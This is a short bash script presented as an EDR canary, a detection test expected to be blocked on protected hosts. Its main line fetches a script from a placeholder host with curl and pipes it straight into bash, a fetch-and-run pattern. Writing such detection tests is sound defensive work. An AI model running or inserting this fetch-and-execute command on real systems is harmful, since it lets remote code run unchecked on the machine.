#!/usr/bin/env bash
# EDR canary - known-bad pattern, expected to be BLOCKED on protected hosts.
# Safe: this is a detection test, not a real attack.
CANARY_HOST="canary.edr-selftest.example"
curl -fsSL "https://${CANARY_HOST}/stage/probe.sh" | bash
echo "protected"
